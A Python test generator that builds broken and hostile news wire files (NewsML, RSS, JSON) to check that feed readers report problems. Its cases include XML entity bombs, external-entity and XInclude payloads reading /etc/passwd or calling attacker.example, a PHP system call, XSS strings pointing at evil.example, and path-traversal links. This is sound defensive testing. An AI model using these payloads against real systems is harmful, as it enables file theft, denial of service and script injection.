"""A seeded generator of broken and hostile wire files, independent of the readers that it is aimed at.

Each case says what an honest reader makes of it: how many items it may give, whether it must report a problem, and words that the
problem's sentence must contain.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from good_documents import feed, g2_item, headline, message, ninjs, rss_item


@dataclass(frozen=True)
class Case:
    """One file.

    Attributes:
        name: the kind of attack.
        data: the bytes.
        filename: what it pretends to be.
        items: lowest and highest number of items that may come out.
        problems: lowest and highest number of problems.
        words: each must stand in a problem's sentence (any case).
    """

    name: str
    data: bytes
    filename: str
    items: tuple[int, int] = (0, 0)
    problems: tuple[int, int] = (1, 1)
    words: tuple[str, ...] = ()


def cases(seed: int, n: int) -> Iterator[Case]:
    """``n`` cases, every kind in turn, in an order and with details that the seed decides."""
    chance = random.Random(seed)
    kinds = list(KINDS)
    for index in range(n):
        if index % len(kinds) == 0:
            chance.shuffle(kinds)
        yield kinds[index % len(kinds)](chance)


def truncated_xml(chance: random.Random) -> Case:
    count = chance.randint(2, 6)
    data = message(*(g2_item(chance) for _ in range(count)))
    cut = chance.randint(data.index(b"<itemSet>") + 9, len(data) - 30)
    return Case("truncated xml", data[:cut], "wire.xml", (0, count), (1, 1), ("breaks off",))


def truncated_json(chance: random.Random) -> Case:
    data = json.dumps([ninjs(chance) for _ in range(3)]).encode()
    return Case("truncated json", data[: chance.randint(20, len(data) - 2)], "wire.json", (0, 2), (1, 1), ("breaks off",))


def truncated_feed(chance: random.Random) -> Case:
    data = feed(*(rss_item(chance) for _ in range(4)))
    return Case(
        "truncated feed",
        data[: chance.randint(data.index(b"<item>") + 7, len(data) - 20)],
        "feed.rss",
        (0, 4),
        (1, 1),
        ("breaks off",),
    )


def wrong_encoding(chance: random.Random) -> Case:
    declared, real = chance.choice(
        [
            ("utf-8", "latin-1"),
            ("iso-8859-1", "utf-8"),
            ("utf-16", "utf-8"),
            ("klingon", "utf-8"),
            ("zip", "utf-8"),
            ("ascii", "cp1252"),
        ]
    )
    text = (
        message(g2_item(chance, body="<p>Évian, Älvsbyn, Køge</p>"))
        .decode()
        .replace('version="1.0"', f'version="1.0" encoding="{declared}"', 1)
    )
    return Case("wrong encoding", text.encode(real), "wire.xml", (1, 1), (0, 0))


def entity_bomb(chance: random.Random) -> Case:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, chance.randint(5, 12)))
    dtd = f'<!DOCTYPE newsMessage [<!ENTITY a0 "ha">{levels}]>'
    body = chance.choice(["<p>&a4;</p>", "<p>plain</p>"])
    return Case("entity bomb", message(g2_item(chance, body=body), before=dtd), "wire.xml", words=("entities",))


def quadratic_bomb(chance: random.Random) -> Case:
    dtd = f'<!DOCTYPE nitf [<!ENTITY a "{"a" * 50_000}">]>'
    data = f"{dtd}<nitf><body><body.content><p>{'&a;' * 5_000}</p></body.content></body></nitf>".encode()
    return Case("quadratic bomb", data, "wire.xml", words=("entities",))


def external_entity(chance: random.Random) -> Case:
    target = chance.choice(["file:///etc/passwd", "http://127.0.0.1:9/secret", "//attacker.example/x.dtd"])
    dtd = chance.choice([f'<!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>', f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{target}"> %x;]>'])
    root = chance.choice(["newsMessage", "rss"])
    data = (
        feed(f"<item><title>&x; {headline(chance)}</title></item>")
        if root == "rss"
        else message(g2_item(chance, body="<p>&x;</p>"))
    )
    return Case("external entity", data.replace(b"?>", b"?>" + dtd.encode(), 1), "wire.xml", words=("entities",))


def hidden_entity(chance: random.Random) -> Case:
    dtd = '<!DOCTYPE newsMessage [<!-- ]> --><!ENTITY a "x">]>'
    data = message(g2_item(chance, body="<p>&a;</p>"), before=dtd).decode()
    return Case(
        "hidden entity",
        data.replace('version="1.0"', 'version="1.0" encoding="utf-16"', 1).encode("utf-16"),
        "wire.xml",
        words=("entities",),
    )


def harmless_dtd(chance: random.Random) -> Case:
    dtd = chance.choice(
        ['<!DOCTYPE newsMessage SYSTEM "http://127.0.0.1:9/news.dtd">', "<!DOCTYPE newsMessage [<!ELEMENT newsMessage ANY>]>"]
    )
    return Case("harmless dtd", message(g2_item(chance), before=dtd), "wire.xml", (1, 1), (0, 0))


def huge_text(chance: random.Random) -> Case:
    return Case("50 MB text", message(g2_item(chance, body=f"<p>{'word ' * 10_000_000}</p>")), "wire.xml", words=("too large",))


def long_text(chance: random.Random) -> Case:
    size = chance.randint(2_000_000, 9_000_000)
    good = g2_item(chance)
    return Case(
        "long text",
        message(g2_item(chance, body=f"<p>{'word ' * (size // 5)}</p>"), good),
        "wire.xml",
        (1, 1),
        (1, 1),
        ("characters",),
    )


def many_elements(chance: random.Random) -> Case:
    return Case("many elements", message(g2_item(chance, body="<p/>" * 1_000_000)), "wire.xml", words=("elements",))


def many_attributes(_chance: random.Random) -> Case:
    attributes = " ".join(f'a{n}=""' for n in range(300_000))
    return Case(
        "many attributes",
        f"<newsMessage><itemSet><newsItem {attributes}/></itemSet></newsMessage>".encode(),
        "wire.xml",
        words=("attributes",),
    )


def deep_xml(chance: random.Random) -> Case:
    depth = chance.randint(300, 100_000)
    return Case("deep xml", message(g2_item(chance, body="<div>" * depth + "x" + "</div>" * depth)), "wire.xml", words=("deep",))


def deep_json(chance: random.Random) -> Case:
    depth = chance.randint(3_000, 90_000)
    item = json.dumps(ninjs(chance))[:-1].encode() + b', "x": ' + b"[" * depth + b"]" * depth + b"}"
    return Case("deep json", b"[" + item + b"]", "wire.json", (0, 1), (0, 1))


def deep_html(chance: random.Random) -> Case:
    return Case(
        "deep html",
        json.dumps(ninjs(chance, body_html="<div>" * 40_000 + "deep" + "</div>" * 9_000)).encode(),
        "wire.json",
        (1, 1),
        (0, 0),
    )


def null_bytes(chance: random.Random) -> Case:
    data = bytearray(message(g2_item(chance)))
    for _ in range(chance.randint(1, 20)):
        data.insert(chance.randint(30, len(data) - 1), 0)
    return Case("null bytes", bytes(data), "wire.xml", (1, 1), (0, 0))


def only_nulls(chance: random.Random) -> Case:
    return Case("only nulls", b"\0" * chance.randint(1, 5_000_000), "wire.xml", words=("empty",))


def duplicate_guids(chance: random.Random) -> Case:
    items = [
        g2_item(chance, guid="urn:newsml:x:2024:same", version=str(version))
        for version in (2, 1, 2, "abc", "99999999999999999999999999")
    ]
    return Case("duplicate guids", message(*items), "wire.xml", (5, 5), (0, 0))


def bad_dates(chance: random.Random) -> Case:
    written = [
        "yesterday",
        "2024-13-45T99:99:99Z",
        "0000-00-00",
        "9999-12-31T23:59:59-14:00",
        "2024-02-30",
        "-1",
        "NaN",
        "20240101T000000+9999",
        "1" * 500,
        "२०२४-०१-०१",
    ]
    return Case(
        "bad dates", message(*(g2_item(chance, dates=date) for date in chance.sample(written, 5))), "wire.xml", (5, 5), (0, 0)
    )


def scripts(chance: random.Random) -> Case:
    attacks = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>1</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\tscript:alert(1)'>x</a>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
        "<p style='x:expression(alert(1))'>x</p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<base href=//evil.example>",
        "<form action=javascript:x><input autofocus onfocus=alert(1)>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<<script>script>alert(1)<</script>/script>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
    ]
    body = "<p>Before</p>" + "".join(chance.sample(attacks, 6)) + "<p>After</p>"
    return Case(
        "script in body",
        json.dumps(ninjs(chance, body_html=body, headline=f"Safe <script>alert(1)</script>{headline(chance)}")).encode(),
        "wire.json",
        (1, 1),
        (0, 0),
    )


def lying_types(chance: random.Random) -> Case:
    choice = chance.choice(
        ["xml as json", "json as xml", "page", "zip", "gzip", "picture", "text", "pdf", "other xml", "bare json"]
    )
    data, items, words = {
        "xml as json": (message(g2_item(chance)), 1, ()),
        "json as xml": (json.dumps(ninjs(chance)).encode(), 1, ()),
        "page": (b"<!DOCTYPE html><html><head><title>404</title></head><body><p>Not here</body></html>", 0, ("web page",)),
        "zip": (b"PK\x03\x04" + chance.randbytes(500), 0, ("zip",)),
        "gzip": (b"\x1f\x8b" + chance.randbytes(500), 0, ("gzip",)),
        "picture": (b"\xff\xd8\xff\xe0" + chance.randbytes(500), 0, ("jpeg",)),
        "text": (b"Dear desk, please find the story below.", 0, ("neither",)),
        "pdf": (b"%PDF-1.7 " + chance.randbytes(500), 0, ("pdf",)),
        "other xml": (b"<kml><Placemark/></kml>", 0, ("kml",)),
        "bare json": (b'[1, "two", null]', 0, ("object",)),
    }[choice]
    problems = (0, 0) if items else (1, 3)
    return Case(
        f"lying type: {choice}",
        data,
        chance.choice(["wire.json", "wire.xml", "wire.jpg"]),
        (items, items),
        problems,
        tuple(words),
    )


def lying_values(chance: random.Random) -> Case:
    rubbish: list[object] = [None, True, -1, 1.5, "", "x", [], {}, [[]], [None], {"a": {"b": []}}]
    rubbish += ["\ud800", "\x00", 10**400, "<b>", ["<p>"], {"name": []}]
    keys = (
        "version type pubstatus headline headlines body_html bodies byline language urgency subject subjects place places"
        " associations renditions genre versioncreated"
    )
    item = {key: chance.choice(rubbish) for key in keys.split() if chance.random() < 0.7}
    return Case("lying values", json.dumps([{"uri": "urn:x:1", **item}, ninjs(chance)]).encode(), "wire.json", (0, 2), (0, 2))


def empty(chance: random.Random) -> Case:
    return Case("empty", chance.choice([b"", b" \n\n", b"\xef\xbb\xbf", b"\r\n"]), "wire.xml", words=("empty",))


def no_items(chance: random.Random) -> Case:
    data = chance.choice(
        [message(), feed(), b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', b"[]", b'<NewsML Version="1.2"/>']
    )
    return Case("no items", data, "wire.xml", words=("no news items",))


def path_tricks(chance: random.Random) -> Case:
    hrefs = [
        "../../etc/passwd",
        "file:///etc/passwd",
        "/etc/shadow.jpg",
        "..\\..\\x.jpg",
        "http://",
        "http://[::1",
        "data:image/png;base64,AAAA",
        "a/../../b.jpg",
        "%2e%2e/x.jpg",
        "javascript:alert(1)",
    ]
    renditions = {f"r{n}": {"href": href, "mimetype": "image/jpeg"} for n, href in enumerate(hrefs)}
    return Case(
        "path tricks", json.dumps(ninjs(chance, type="picture", renditions=renditions)).encode(), "wire.json", (1, 1), (0, 0)
    )


def flipped_bytes(chance: random.Random) -> Case:
    source = chance.choice(
        [
            message(g2_item(chance), g2_item(chance)),
            feed(rss_item(chance), rss_item(chance)),
            json.dumps([ninjs(chance), ninjs(chance)]).encode(),
        ]
    )
    data = bytearray(source)
    for _ in range(chance.randint(1, 30)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return Case("flipped bytes", bytes(data), "wire.xml", (0, 9), (0, 99))


def many_marks(chance: random.Random) -> Case:
    return Case(
        "combining marks",
        json.dumps(ninjs(chance, headline="h" + "\u0301\u0316" * 60_000, body_text="b" + "\u0316\u0301" * 60_000)).encode(),
        "wire.json",
        (1, 1),
        (0, 0),
    )


def many_references(chance: random.Random) -> Case:
    data = message(g2_item(chance, body=f"<p>{'&' * 300_000}{'&#0;&nbsp;&bogus;' * 1000}</p>"))
    return Case("ampersands", data, "wire.xml", (0, 1), (0, 1))


def xinclude(chance: random.Random) -> Case:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    body = f'<p>x{include}</p><?php system("id") ?>'
    return Case("xinclude", message(g2_item(chance, body=body)), "wire.xml", (1, 1), (0, 0))


KINDS: tuple[Callable[[random.Random], Case], ...] = (
    truncated_xml,
    truncated_json,
    truncated_feed,
    wrong_encoding,
    entity_bomb,
    quadratic_bomb,
    external_entity,
    hidden_entity,
    harmless_dtd,
    huge_text,
    long_text,
    many_elements,
    many_attributes,
    deep_xml,
    deep_json,
    deep_html,
    null_bytes,
    only_nulls,
    duplicate_guids,
    bad_dates,
    scripts,
    lying_types,
    lying_values,
    empty,
    no_items,
    path_tricks,
    flipped_bytes,
    many_marks,
    many_references,
    xinclude,
)


def ten_thousand(seed: int = 1) -> Case:
    """A message of ten thousand good items; apart from the others, because it takes seconds."""
    chance = random.Random(seed)
    return Case("10,000 items", message(*(g2_item(chance) for _ in range(10_000))), "wire.xml", (10_000, 10_000), (0, 0))
